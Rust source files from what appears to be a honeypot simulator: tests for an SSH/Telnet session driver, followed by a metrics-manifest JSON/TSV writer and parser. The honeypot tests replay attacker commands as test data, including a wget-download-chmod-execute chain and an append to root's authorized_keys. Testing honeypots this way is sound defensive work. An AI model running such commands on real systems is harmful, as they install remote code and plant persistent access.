        assert_eq!(r.ended_by, EndReason::AuthLimit);
        assert_eq!(r.logins.len(), 3);
        assert!(!r.login_succeeded());
    }

    #[test]
    fn successful_login_then_idle_timeout_at_180() {
        let mut d = driver();
        assert_eq!(
            d.offer_credentials(Credentials::new("root", "1234"), 2),
            AuthResult::Accepted
        );
        assert!(d.authenticated());
        assert!(d.advance(179));
        assert!(!d.advance(5));
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::Timeout);
        assert_eq!(r.duration_secs, 2 + 180);
        assert!(r.login_succeeded());
        assert!(!r.executed_commands()); // the NO_CMD shape
    }

    #[test]
    fn command_session_records_everything() {
        let mut d = driver();
        d.client_banner("SSH-2.0-Go");
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        let out = d.run_command("uname -a; free -m", 2).unwrap();
        assert!(out.contains("Linux"));
        d.run_command("echo x > /tmp/f", 1);
        d.client_close();
        let r = d.into_record();
        assert_eq!(r.commands.len(), 3);
        assert!(r.commands.iter().all(|c| c.known));
        assert_eq!(r.file_hashes.len(), 1);
        assert!(r.uris.is_empty());
        assert_eq!(r.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn quiet_commands_yield_identical_records() {
        let script = "cd /tmp && wget http://198.51.100.1/x.sh; chmod 777 x.sh; ./x.sh";
        let run = |quiet: bool| {
            let mut d = driver();
            d.offer_credentials(Credentials::new("root", "1234"), 1);
            if quiet {
                d.run_command_quiet(script, 2).unwrap();
                d.run_command_quiet("exit", 1);
            } else {
                d.run_command(script, 2).unwrap();
                d.run_command("exit", 1);
            }
            d.into_record()
        };
        assert_eq!(run(false), run(true));
    }

    #[test]
    fn parsed_quiet_matches_line_execution() {
        let script = "uname -a; echo k >> /root/.ssh/authorized_keys";
        let mut a = driver();
        a.offer_credentials(Credentials::new("root", "1234"), 1);
        a.run_command(script, 2);
        a.client_close();

        let mut buf = LineBuf::new();
        buf.parse(script);
        let mut b = driver();
        b.offer_credentials(Credentials::new("root", "1234"), 1);
        b.run_parsed_quiet(&buf, 2).unwrap();
        b.client_close();

        assert_eq!(a.into_record(), b.into_record());
    }

    #[test]
    fn uri_session_with_download_reset() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        d.run_command("cd /tmp && wget http://198.51.100.1/x.sh", 5);
        // A slow transfer: 200s would exceed the idle limit, but the
        // transfer resets the timer.
        d.external_transfer(200);
        assert!(d.advance(100), "still alive after reset");
        d.run_command("sh x.sh", 2);
        d.client_close();
        let r = d.into_record();
        assert!(r.accessed_uri());
        assert_eq!(r.download_hashes.len(), 1);
        assert!(
            r.duration_secs > 180,
            "CMD+URI sessions may cross the timeout"
        );
    }

    #[test]
    fn activity_resets_idle_timer() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        for _ in 0..5 {
            assert!(d.advance(100));
            assert!(d.run_command("uptime", 1).is_some());
        }
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::ClientClose);
        assert!(r.duration_secs >= 500);
    }

    #[test]
    fn exit_command_ends_session() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        d.run_command("exit", 1);
        assert!(d.finished());
        let r = d.into_record();
        assert_eq!(r.ended_by, EndReason::ClientClose);
    }

    #[test]
    fn commands_after_end_rejected() {
        let mut d = driver();
        d.offer_credentials(Credentials::new("root", "pw"), 1);
        d.client_close();
        assert!(d.run_command("uname", 1).is_none());
    }

    #[test]
    fn telnet_session_has_no_ssh_version() {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            1,
            Protocol::Telnet,
            Ip4::new(198, 51, 100, 20),
            1023,
            SimInstant::EPOCH,
            Box::new(NullFetcher),
        );
        d.client_banner("SSH-2.0-ignored"); // must be ignored on telnet
        d.offer_credentials(Credentials::new("root", "1234"), 1);
        d.client_close();
        let r = d.into_record();
        assert_eq!(r.ssh_client_version, None);
        assert_eq!(r.protocol, Protocol::Telnet);
    }

    #[test]
    fn failed_fetch_still_records_uri() {
        let mut d = SessionDriver::accept(
            HoneypotConfig::default(),
            0,
            Protocol::Ssh,
            Ip4::new(203, 0, 113, 1),
            1,
            SimInstant::EPOCH,
            Box::new(NullFetcher),
        );
        d.offer_credentials(Credentials::new("root", "x"), 1);
        d.run_command("wget http://unreachable/x", 1);
        d.client_close();
        let r = d.into_record();
        assert!(r.accessed_uri());
        assert!(r.download_hashes.is_empty());
        assert!(r.file_hashes.is_empty());
    }
}
