//! Run manifests: the versioned on-disk form of a metrics snapshot.
//!
//! A run that was started with metrics enabled ends by emitting two files
//! into a manifest directory:
//!
//! * `metrics.json` — the full [`RunManifest`]: schema header, counters,
//!   gauges, histograms (sparse log2 buckets), and aggregated spans;
//! * `spans.tsv` — the span table alone, one row per span name, for
//!   spreadsheet/cut/awk consumption.
//!
//! Both are deterministic renderings of sorted maps: the same snapshot
//! always produces the same bytes, which is what lets the golden tests pin
//! the schema (with timings zeroed via [`crate::clock::set_zero_clock`]).
//!
//! The parser is this crate's own minimal recursive-descent JSON reader —
//! no dependency on the vendored serde stack, so `hf-obs` stays linkable
//! from everywhere. It is strict: unknown fields, wrong types, or a schema
//! version mismatch are errors, making "parses cleanly" a meaningful
//! oracle (`schema_version` only changes when the layout does; see
//! EXPERIMENTS.md for the policy).

use std::collections::BTreeMap;
use std::fmt;
use std::path::Path;

use crate::metrics::{Histogram, MetricsSnapshot, SpanStats, N_BUCKETS};

/// Manifest schema identifier.
pub const SCHEMA_NAME: &str = "hf-obs";

/// Manifest schema version. Bump only on layout changes; the parser
/// rejects any other version.
pub const SCHEMA_VERSION: u32 = 1;

/// Name of the JSON manifest file inside a manifest directory.
pub const METRICS_FILE: &str = "metrics.json";

/// Name of the span table file inside a manifest directory.
pub const SPANS_FILE: &str = "spans.tsv";

/// A manifest failed to parse or load.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ManifestError(String);

impl ManifestError {
    fn new(msg: impl Into<String>) -> Self {
        ManifestError(msg.into())
    }
}

impl fmt::Display for ManifestError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "manifest error: {}", self.0)
    }
}

impl std::error::Error for ManifestError {}

/// The end-of-run metrics manifest (see module docs for the file layout).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RunManifest {
    /// Always [`SCHEMA_VERSION`] for manifests this build writes.
    pub schema_version: u32,
    /// What produced the run, e.g. `"hfarm simulate"`.
    pub tool: String,
    /// Monotone event counts, name-sorted.
    pub counters: BTreeMap<String, u64>,
    /// High-water-mark gauges, name-sorted.
    pub gauges: BTreeMap<String, i64>,
    /// Log2 histograms, name-sorted.
    pub histograms: BTreeMap<String, Histogram>,
    /// Aggregated span timings, name-sorted.
    pub spans: BTreeMap<String, SpanStats>,
}

impl RunManifest {
    /// Build a manifest from a folded snapshot.
    pub fn from_snapshot(tool: &str, snap: MetricsSnapshot) -> RunManifest {
        RunManifest {
            schema_version: SCHEMA_VERSION,
            tool: tool.to_string(),
            counters: snap.counters,
            gauges: snap.gauges,
            histograms: snap.histograms,
            spans: snap.spans,
        }
    }

    /// A copy keeping only metrics whose name satisfies `keep` — how the
    /// invariance tests restrict comparison to the deterministic,
    /// thread-count-invariant subset.
    pub fn filtered(&self, keep: impl Fn(&str) -> bool) -> RunManifest {
        RunManifest {
            schema_version: self.schema_version,
            tool: self.tool.clone(),
            counters: filter_map(&self.counters, &keep),
            gauges: filter_map(&self.gauges, &keep),
            histograms: filter_map(&self.histograms, &keep),
            spans: filter_map(&self.spans, &keep),
        }
    }

    /// Zero every duration (span wall/CPU/max, histogram timing is data so
    /// it stays). Golden tests use this belt-and-braces on top of the zero
    /// clock.
    pub fn zero_timings(&mut self) {
        for s in self.spans.values_mut() {
            s.wall_ns = 0;
            s.cpu_ns = 0;
            s.max_wall_ns = 0;
        }
    }

    /// Peak resident set size recorded by [`crate::sample_peak_rss`]
    /// (kilobytes), if this run sampled it. The out-of-core analysis paths
    /// sample once per folded day plus once at manifest time, so a fold
    /// run's manifest always carries its RSS high-water mark.
    pub fn peak_rss_kb(&self) -> Option<i64> {
        self.gauges.get("process.peak_rss_kb").copied()
    }

    // ------------------------------------------------------------ JSON --

    /// Render `metrics.json` (deterministic: maps are name-sorted, layout
    /// is fixed).
    pub fn to_json(&self) -> String {
        let mut o = String::with_capacity(4096);
        o.push_str("{\n");
        o.push_str(&format!("  \"schema\": {},\n", json_str(SCHEMA_NAME)));
        o.push_str(&format!("  \"schema_version\": {},\n", self.schema_version));
        o.push_str(&format!("  \"tool\": {},\n", json_str(&self.tool)));

        o.push_str("  \"counters\": {");
        for (i, (k, v)) in self.counters.iter().enumerate() {
            o.push_str(if i == 0 { "\n" } else { ",\n" });
            o.push_str(&format!("    {}: {v}", json_str(k)));
        }
        o.push_str(if self.counters.is_empty() {
            "},\n"
        } else {
            "\n  },\n"
        });

        o.push_str("  \"gauges\": {");
        for (i, (k, v)) in self.gauges.iter().enumerate() {
            o.push_str(if i == 0 { "\n" } else { ",\n" });
            o.push_str(&format!("    {}: {v}", json_str(k)));
        }
        o.push_str(if self.gauges.is_empty() {
            "},\n"
        } else {
            "\n  },\n"
        });

        o.push_str("  \"histograms\": {");
        for (i, (k, h)) in self.histograms.iter().enumerate() {
            o.push_str(if i == 0 { "\n" } else { ",\n" });
            o.push_str(&format!(
                "    {}: {{\"count\": {}, \"sum\": {}, \"min\": {}, \"max\": {}, \"buckets\": [",
                json_str(k),
                h.count,
                h.sum,
                h.min,
                h.max
            ));
            let mut first = true;
            for (idx, n) in h.buckets.iter().enumerate().filter(|(_, n)| **n > 0) {
                if !first {
                    o.push_str(", ");
                }
                first = false;
                o.push_str(&format!("[{idx}, {n}]"));
            }
            o.push_str("]}");
        }
        o.push_str(if self.histograms.is_empty() {
            "},\n"
        } else {
            "\n  },\n"
        });

        o.push_str("  \"spans\": {");
        for (i, (k, s)) in self.spans.iter().enumerate() {
            o.push_str(if i == 0 { "\n" } else { ",\n" });
            o.push_str(&format!(
                "    {}: {{\"count\": {}, \"wall_ns\": {}, \"cpu_ns\": {}, \"max_wall_ns\": {}}}",
                json_str(k),
                s.count,
                s.wall_ns,
                s.cpu_ns,
                s.max_wall_ns
            ));
        }
        o.push_str(if self.spans.is_empty() {
            "}\n"
        } else {
            "\n  }\n"
        });

        o.push_str("}\n");
        o
    }

    /// Parse a `metrics.json` rendering back (strict; see module docs).
    pub fn parse_json(text: &str) -> Result<RunManifest, ManifestError> {
        let value = Json::parse(text)?;
        let top = value.as_object("manifest")?;
        let mut m = RunManifest {
            schema_version: 0,
            tool: String::new(),
            counters: BTreeMap::new(),
            gauges: BTreeMap::new(),
            histograms: BTreeMap::new(),
            spans: BTreeMap::new(),
        };
        let mut saw_schema = false;
        for (key, v) in top {
            match key.as_str() {
                "schema" => {
                    let s = v.as_str("schema")?;
                    if s != SCHEMA_NAME {
                        return Err(ManifestError::new(format!(
                            "schema is {s:?}, expected {SCHEMA_NAME:?}"
                        )));
                    }
                    saw_schema = true;
                }
                "schema_version" => {
                    m.schema_version = v.as_u64("schema_version")? as u32;
                    if m.schema_version != SCHEMA_VERSION {
                        return Err(ManifestError::new(format!(
                            "schema_version {} unsupported (this build reads {})",
                            m.schema_version, SCHEMA_VERSION
                        )));
                    }
                }
                "tool" => m.tool = v.as_str("tool")?.to_string(),
                "counters" => {
                    for (name, n) in v.as_object("counters")? {
                        insert_unique(&mut m.counters, name, n.as_u64("counter")?)?;
                    }
                }
                "gauges" => {
                    for (name, n) in v.as_object("gauges")? {
                        insert_unique(&mut m.gauges, name, n.as_i64("gauge")?)?;
                    }
                }
                "histograms" => {
                    for (name, h) in v.as_object("histograms")? {
                        insert_unique(&mut m.histograms, name, parse_histogram(h)?)?;
                    }
                }
                "spans" => {
                    for (name, s) in v.as_object("spans")? {
                        insert_unique(&mut m.spans, name, parse_span(s)?)?;
                    }
                }
                other => {
                    return Err(ManifestError::new(format!(
                        "unknown manifest field {other:?}"
                    )))
                }
            }
        }
        if !saw_schema {
            return Err(ManifestError::new("missing schema field"));
        }
        if m.schema_version == 0 {
            return Err(ManifestError::new("missing schema_version field"));
        }
        Ok(m)
    }

    // ------------------------------------------------------------- TSV --

    /// Render `spans.tsv`: a version header, a column header, one
    /// tab-separated row per span name (sorted). Tabs/newlines/backslashes
    /// in names are backslash-escaped so the table stays rectangular.
    pub fn spans_tsv(&self) -> String {
        let mut o = String::new();
        o.push_str(&format!("# {SCHEMA_NAME} spans v{SCHEMA_VERSION}\n"));
        o.push_str("name\tcount\twall_ns\tcpu_ns\tmax_wall_ns\n");
        for (name, s) in &self.spans {
            o.push_str(&format!(
                "{}\t{}\t{}\t{}\t{}\n",
                tsv_escape(name),
                s.count,
                s.wall_ns,
                s.cpu_ns,
                s.max_wall_ns
            ));
        }
        o
    }

    /// Parse a `spans.tsv` rendering back into a span table.
    pub fn parse_spans_tsv(text: &str) -> Result<BTreeMap<String, SpanStats>, ManifestError> {
        let mut lines = text.lines();
        let header = lines
            .next()
            .ok_or_else(|| ManifestError::new("empty spans.tsv"))?;
        let expected = format!("# {SCHEMA_NAME} spans v{SCHEMA_VERSION}");
        if header != expected {
            return Err(ManifestError::new(format!(
                "spans.tsv header {header:?}, expected {expected:?}"
            )));
        }
        match lines.next() {
            Some("name\tcount\twall_ns\tcpu_ns\tmax_wall_ns") => {}
            other => {
                return Err(ManifestError::new(format!(
                    "spans.tsv column header missing or wrong: {other:?}"
                )))
            }
        }
        let mut out = BTreeMap::new();
        for (lineno, line) in lines.enumerate() {
            let cols: Vec<&str> = line.split('\t').collect();
            if cols.len() != 5 {
                return Err(ManifestError::new(format!(
                    "spans.tsv row {}: {} column(s), expected 5",
                    lineno + 3,
                    cols.len()
                )));
            }
            let name = tsv_unescape(cols[0])?;
            let num = |i: usize, what: &str| -> Result<u64, ManifestError> {
                cols[i].parse::<u64>().map_err(|_| {
                    ManifestError::new(format!(
                        "spans.tsv row {}: bad {what} {:?}",
                        lineno + 3,
                        cols[i]
                    ))
                })
            };
            let stats = SpanStats {
                count: num(1, "count")?,
                wall_ns: num(2, "wall_ns")?,
                cpu_ns: num(3, "cpu_ns")?,
                max_wall_ns: num(4, "max_wall_ns")?,
            };
            if out.insert(name.clone(), stats).is_some() {
                return Err(ManifestError::new(format!("duplicate span row {name:?}")));
            }
        }
        Ok(out)
    }

    // ------------------------------------------------------------- dir --

    /// Write `metrics.json` + `spans.tsv` into `dir` (created if needed).
    pub fn write_dir(&self, dir: &Path) -> std::io::Result<()> {
        std::fs::create_dir_all(dir)?;
        std::fs::write(dir.join(METRICS_FILE), self.to_json())?;
        std::fs::write(dir.join(SPANS_FILE), self.spans_tsv())?;
        Ok(())
    }

    /// Load and cross-validate a manifest directory: parse both files and
    /// require the TSV span table to agree with the JSON one.
    pub fn load_dir(dir: &Path) -> Result<RunManifest, ManifestError> {
        let read = |name: &str| {
            std::fs::read_to_string(dir.join(name))
                .map_err(|e| ManifestError::new(format!("{}/{name}: {e}", dir.display())))
        };
        let manifest = RunManifest::parse_json(&read(METRICS_FILE)?)?;
        let spans = RunManifest::parse_spans_tsv(&read(SPANS_FILE)?)?;
        if spans != manifest.spans {
            return Err(ManifestError::new(
                "spans.tsv disagrees with the spans section of metrics.json",
            ));
        }
        Ok(manifest)
    }
}

fn filter_map<V: Clone>(
    m: &BTreeMap<String, V>,
    keep: &impl Fn(&str) -> bool,
) -> BTreeMap<String, V> {
    m.iter()
        .filter(|(k, _)| keep(k))
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect()
}

fn insert_unique<V>(
    map: &mut BTreeMap<String, V>,
    name: &str,
    value: V,
) -> Result<(), ManifestError> {
    if map.insert(name.to_string(), value).is_some() {
        return Err(ManifestError::new(format!(
            "duplicate metric name {name:?}"
        )));
    }
    Ok(())
}

fn parse_histogram(v: &Json) -> Result<Histogram, ManifestError> {
    let mut h = Histogram::new();
    let mut sum_of_buckets = 0u64;
    for (key, f) in v.as_object("histogram")? {
        match key.as_str() {
            "count" => h.count = f.as_u64("count")?,
            "sum" => h.sum = f.as_u64("sum")?,
            "min" => h.min = f.as_u64("min")?,
            "max" => h.max = f.as_u64("max")?,
            "buckets" => {
                for pair in f.as_array("buckets")? {
                    let pair = pair.as_array("bucket pair")?;
                    if pair.len() != 2 {
                        return Err(ManifestError::new("bucket pair must be [index, count]"));
                    }
                    let idx = pair[0].as_u64("bucket index")? as usize;
                    let n = pair[1].as_u64("bucket count")?;
                    if idx >= N_BUCKETS {
                        return Err(ManifestError::new(format!(
                            "bucket index {idx} out of range (< {N_BUCKETS})"
                        )));
                    }
                    if h.buckets[idx] != 0 {
                        return Err(ManifestError::new(format!("duplicate bucket index {idx}")));
                    }
                    if n == 0 {
                        return Err(ManifestError::new(
                            "explicit zero bucket in sparse encoding",
                        ));
                    }
                    h.buckets[idx] = n;
                    sum_of_buckets = sum_of_buckets.saturating_add(n);
                }
            }
            other => {
                return Err(ManifestError::new(format!(
                    "unknown histogram field {other:?}"
                )))
            }
        }
    }
    if sum_of_buckets != h.count {
        return Err(ManifestError::new(format!(
            "histogram buckets sum to {sum_of_buckets}, count says {}",
            h.count
        )));
    }
    Ok(h)
}

fn parse_span(v: &Json) -> Result<SpanStats, ManifestError> {
    let mut s = SpanStats::default();
    for (key, f) in v.as_object("span")? {
        match key.as_str() {
            "count" => s.count = f.as_u64("count")?,
            "wall_ns" => s.wall_ns = f.as_u64("wall_ns")?,
            "cpu_ns" => s.cpu_ns = f.as_u64("cpu_ns")?,
            "max_wall_ns" => s.max_wall_ns = f.as_u64("max_wall_ns")?,
            other => return Err(ManifestError::new(format!("unknown span field {other:?}"))),
        }
    }
    Ok(s)
}

// ------------------------------------------------------- string escaping --

/// JSON-escape a string (quotes included).
fn json_str(s: &str) -> String {
    let mut o = String::with_capacity(s.len() + 2);
    o.push('"');
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            '\r' => o.push_str("\\r"),
            '\t' => o.push_str("\\t"),
            '\u{08}' => o.push_str("\\b"),
            '\u{0c}' => o.push_str("\\f"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

fn tsv_escape(s: &str) -> String {
    let mut o = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\\' => o.push_str("\\\\"),
            '\t' => o.push_str("\\t"),
            '\n' => o.push_str("\\n"),
            '\r' => o.push_str("\\r"),
            c => o.push(c),
        }
    }
    o
}

fn tsv_unescape(s: &str) -> Result<String, ManifestError> {
    let mut o = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c != '\\' {
            o.push(c);
            continue;
        }
        match chars.next() {
            Some('\\') => o.push('\\'),
            Some('t') => o.push('\t'),
            Some('n') => o.push('\n'),
            Some('r') => o.push('\r'),
            other => {
                return Err(ManifestError::new(format!(
                    "bad tsv escape \\{} in {s:?}",
                    other.map(String::from).unwrap_or_default()
                )))
            }
        }
    }
    Ok(o)
}

// ------------------------------------------------------------ mini JSON --

/// Minimal JSON value tree for the manifest parser. Objects keep source
/// order; the manifest converter enforces uniqueness.
#[derive(Debug, Clone, PartialEq)]
enum Json {
    Int(i128),
    Str(String),
    Array(Vec<Json>),
    Object(Vec<(String, Json)>),
}

impl Json {
    fn parse(text: &str) -> Result<Json, ManifestError> {
        let mut p = JsonParser {
            bytes: text.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let v = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(ManifestError::new(format!(
                "trailing characters at byte {}",
                p.pos
            )));
        }
        Ok(v)
    }

    fn as_object(&self, what: &str) -> Result<&[(String, Json)], ManifestError> {
        match self {
            Json::Object(o) => Ok(o),
            _ => Err(ManifestError::new(format!("{what} must be an object"))),
        }
    }

    fn as_array(&self, what: &str) -> Result<&[Json], ManifestError> {
        match self {
            Json::Array(a) => Ok(a),
            _ => Err(ManifestError::new(format!("{what} must be an array"))),
        }
    }

    fn as_str(&self, what: &str) -> Result<&str, ManifestError> {
        match self {
            Json::Str(s) => Ok(s),
            _ => Err(ManifestError::new(format!("{what} must be a string"))),
        }
    }

    fn as_u64(&self, what: &str) -> Result<u64, ManifestError> {
        match self {
            Json::Int(n) => u64::try_from(*n)
                .map_err(|_| ManifestError::new(format!("{what} out of u64 range: {n}"))),
            _ => Err(ManifestError::new(format!("{what} must be an integer"))),
        }
    }

    fn as_i64(&self, what: &str) -> Result<i64, ManifestError> {
        match self {
            Json::Int(n) => i64::try_from(*n)
                .map_err(|_| ManifestError::new(format!("{what} out of i64 range: {n}"))),
            _ => Err(ManifestError::new(format!("{what} must be an integer"))),
        }
    }
}

struct JsonParser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl JsonParser<'_> {
    fn skip_ws(&mut self) {
        while let Some(b) = self.bytes.get(self.pos) {
            if matches!(b, b' ' | b'\t' | b'\n' | b'\r') {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8) -> Result<(), ManifestError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(ManifestError::new(format!(
                "expected {:?} at byte {}",
                b as char, self.pos
            )))
        }
    }

    fn value(&mut self) -> Result<Json, ManifestError> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Json::Str(self.string()?)),
            Some(b'-') | Some(b'0'..=b'9') => self.number(),
            other => Err(ManifestError::new(format!(
                "unexpected {:?} at byte {} (manifests hold only objects, arrays, strings, \
                 and integers)",
                other.map(|b| b as char),
                self.pos
            ))),
        }
    }

    fn object(&mut self) -> Result<Json, ManifestError> {
        self.expect(b'{')?;
        let mut entries = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Json::Object(entries));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':')?;
            self.skip_ws();
            let v = self.value()?;
            entries.push((key, v));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Json::Object(entries));
                }
                _ => {
                    return Err(ManifestError::new(format!(
                        "expected , or }} at byte {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn array(&mut self) -> Result<Json, ManifestError> {
        self.expect(b'[')?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Json::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Json::Array(items));
                }
                _ => {
                    return Err(ManifestError::new(format!(
                        "expected , or ] at byte {}",
                        self.pos
                    )))
                }
            }
        }
    }

    fn number(&mut self) -> Result<Json, ManifestError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        while matches!(self.peek(), Some(b'0'..=b'9')) {
            self.pos += 1;
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos]).expect("digits are ascii");
        text.parse::<i128>()
            .map(Json::Int)
            .map_err(|_| ManifestError::new(format!("bad integer {text:?} at byte {start}")))
    }

    fn string(&mut self) -> Result<String, ManifestError> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            // Consume one UTF-8 scalar (the input came from &str, so the
            // bytes are valid; multibyte sequences pass through untouched).
            let rest = std::str::from_utf8(&self.bytes[self.pos..])
                .map_err(|_| ManifestError::new("invalid utf-8 inside string"))?;
            let Some(c) = rest.chars().next() else {
                return Err(ManifestError::new("unterminated string"));
            };
            self.pos += c.len_utf8();
            match c {
                '"' => return Ok(out),
                '\\' => {
                    let esc = self
                        .peek()
                        .ok_or_else(|| ManifestError::new("unterminated escape"))?;
                    self.pos += 1;
                    match esc {
                        b'"' => out.push('"'),
                        b'\\' => out.push('\\'),
                        b'/' => out.push('/'),
                        b'n' => out.push('\n'),
                        b'r' => out.push('\r'),
                        b't' => out.push('\t'),
                        b'b' => out.push('\u{08}'),
                        b'f' => out.push('\u{0c}'),
                        b'u' => {
                            let hi = self.hex4()?;
                            let c = if (0xd800..0xdc00).contains(&hi) {
                                // Surrogate pair: the low half must follow.
                                self.expect(b'\\')?;
                                self.expect(b'u')?;
                                let lo = self.hex4()?;
                                if !(0xdc00..0xe000).contains(&lo) {
                                    return Err(ManifestError::new("bad low surrogate"));
                                }
                                let cp = 0x10000 + ((hi - 0xd800) << 10) + (lo - 0xdc00);
                                char::from_u32(cp)
                            } else {
                                char::from_u32(hi)
                            };
                            out.push(c.ok_or_else(|| ManifestError::new("bad \\u escape"))?);
                        }
                        other => {
                            return Err(ManifestError::new(format!(
                                "bad escape \\{}",
                                other as char
                            )))
                        }
                    }
                }
                c if (c as u32) < 0x20 => {
                    return Err(ManifestError::new("raw control character in string"))
                }
                c => out.push(c),
            }
        }
    }

    fn hex4(&mut self) -> Result<u32, ManifestError> {
        if self.pos + 4 > self.bytes.len() {
            return Err(ManifestError::new("truncated \\u escape"));
        }
        let text = std::str::from_utf8(&self.bytes[self.pos..self.pos + 4])
            .map_err(|_| ManifestError::new("bad \\u escape"))?;
        self.pos += 4;
        u32::from_str_radix(text, 16).map_err(|_| ManifestError::new("bad \\u escape"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> RunManifest {
        let mut snap = MetricsSnapshot::default();
        snap.counters.insert("sim.sessions_executed".into(), 1234);
        snap.counters.insert("farm.sessions_ingested".into(), 1234);
        snap.gauges.insert("sim.threads".into(), 8);
        snap.gauges.insert("neg".into(), -3);
        let mut h = Histogram::new();
        h.record(0);
        h.record(7);
        h.record(7000);
        snap.histograms.insert("sim.day_sessions".into(), h);
        snap.spans.insert(
            "sim.day".into(),
            SpanStats {
                count: 4,
                wall_ns: 400,
                cpu_ns: 300,
                max_wall_ns: 150,
            },
        );
        RunManifest::from_snapshot("unit test", snap)
    }

    #[test]
    fn json_roundtrip_is_lossless() {
        let m = sample();
        let parsed = RunManifest::parse_json(&m.to_json()).expect("parse");
        assert_eq!(parsed, m);
    }

    #[test]
    fn json_roundtrip_survives_hostile_names() {
        let mut m = sample();
        m.counters
            .insert("weird \"name\"\twith\nstuff\\u{1f980}🦀".into(), 1);
        m.tool = "tool \u{7} with control".into();
        let parsed = RunManifest::parse_json(&m.to_json()).expect("parse");
        assert_eq!(parsed, m);
    }

    #[test]
    fn empty_manifest_roundtrips() {
        let m = RunManifest::from_snapshot("empty", MetricsSnapshot::default());
        assert_eq!(RunManifest::parse_json(&m.to_json()).expect("parse"), m);
        assert_eq!(
            RunManifest::parse_spans_tsv(&m.spans_tsv()).expect("tsv"),
            m.spans
        );
    }

    #[test]
    fn spans_tsv_roundtrips() {
        let mut m = sample();
        m.spans.insert(
            "name\twith\ttabs\nand\\newlines".into(),
            SpanStats {
                count: 1,
                wall_ns: 2,
                cpu_ns: 3,
                max_wall_ns: 2,
            },
        );
        let parsed = RunManifest::parse_spans_tsv(&m.spans_tsv()).expect("tsv");
        assert_eq!(parsed, m.spans);
    }

    #[test]
    fn parser_rejects_bad_manifests() {
        for (what, text) in [
            ("not json", "hello"),
            (
                "wrong schema",
                r#"{"schema": "nope", "schema_version": 1, "tool": "t"}"#,
            ),
            (
                "wrong version",
                r#"{"schema": "hf-obs", "schema_version": 99, "tool": "t"}"#,
            ),
            (
                "unknown field",
                r#"{"schema": "hf-obs", "schema_version": 1, "tool": "t", "extra": {}}"#,
            ),
            ("missing schema", r#"{"schema_version": 1, "tool": "t"}"#),
            (
                "float value",
                r#"{"schema": "hf-obs", "schema_version": 1, "tool": "t", "counters": {"x": 1.5}}"#,
            ),
            (
                "negative counter",
                r#"{"schema": "hf-obs", "schema_version": 1, "tool": "t", "counters": {"x": -1}}"#,
            ),
            (
                "bucket/count mismatch",
                r#"{"schema": "hf-obs", "schema_version": 1, "tool": "t",
                   "histograms": {"h": {"count": 2, "sum": 0, "min": 0, "max": 0,
                                        "buckets": [[0, 1]]}}}"#,
            ),
            (
                "bucket index out of range",
                r#"{"schema": "hf-obs", "schema_version": 1, "tool": "t",
                   "histograms": {"h": {"count": 1, "sum": 0, "min": 0, "max": 0,
                                        "buckets": [[65, 1]]}}}"#,
            ),
        ] {
            assert!(RunManifest::parse_json(text).is_err(), "{what} must fail");
        }
    }

    #[test]
    fn filtered_keeps_only_matching_names() {
        let m = sample();
        let f = m.filtered(|n| n.starts_with("sim."));
        assert_eq!(f.counters.len(), 1);
        assert!(f.counters.contains_key("sim.sessions_executed"));
        assert_eq!(f.gauges.len(), 1);
        assert_eq!(f.histograms.len(), 1);
        assert_eq!(f.spans.len(), 1);
    }

    #[test]
    fn write_and_load_dir() {
        let dir = std::env::temp_dir().join(format!("hf-obs-test-{}", std::process::id()));
        let m = sample();
        m.write_dir(&dir).expect("write");
        let loaded = RunManifest::load_dir(&dir).expect("load");
        assert_eq!(loaded, m);
        // A tampered spans.tsv fails the cross-check.
        std::fs::write(
            dir.join(SPANS_FILE),
            format!("# {SCHEMA_NAME} spans v{SCHEMA_VERSION}\nname\tcount\twall_ns\tcpu_ns\tmax_wall_ns\n"),
        )
        .expect("tamper");
        assert!(RunManifest::load_dir(&dir).is_err());
        std::fs::remove_dir_all(&dir).ok();
    }
}
