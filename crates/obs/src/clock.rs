//! Time sources for span measurement, including the test-mode zero clock.
//!
//! Golden tests pin the *structure* of a manifest (which counters exist,
//! which spans fired, how often) but wall/CPU durations are inherently
